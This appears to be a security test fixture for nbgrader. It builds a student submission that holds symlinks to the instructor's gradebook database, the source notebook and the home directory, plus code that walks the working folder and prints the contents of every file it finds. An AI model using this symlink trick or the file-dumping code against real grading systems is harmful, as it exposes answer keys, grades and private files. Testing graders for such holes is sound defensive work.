"""Hands in links to the gradebook, the source and a file in the instructor's home, which nbgrader follows and copies."""

SQUARE = r"""
import os
for here, folders, files in os.walk("."):
    for name in files:
        print(name, open(os.path.join(here, name), "rb").read(1_000_000))
def square(x):
    return 0
"""

FILES = {"mine.txt": b"hello"}

LINKS = {
    "diary.txt": "{home}/diary.txt",
    "book": "{course}/gradebook.db",
    "notebook.txt": "{course}/source/target/target.ipynb",
    "all_of_it": "{home}",
}
